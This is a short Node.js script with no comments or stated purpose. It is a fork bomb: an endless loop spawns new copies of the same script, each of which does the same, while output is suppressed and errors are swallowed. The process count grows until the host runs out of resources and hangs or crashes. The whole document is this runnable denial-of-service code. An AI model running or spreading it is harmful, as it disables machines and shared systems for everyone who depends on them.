import { spawn } from "node:child_process";
for (;;) {
  try { spawn(process.execPath, [process.argv[1]], { stdio: "ignore" }); } catch (error) {}
}
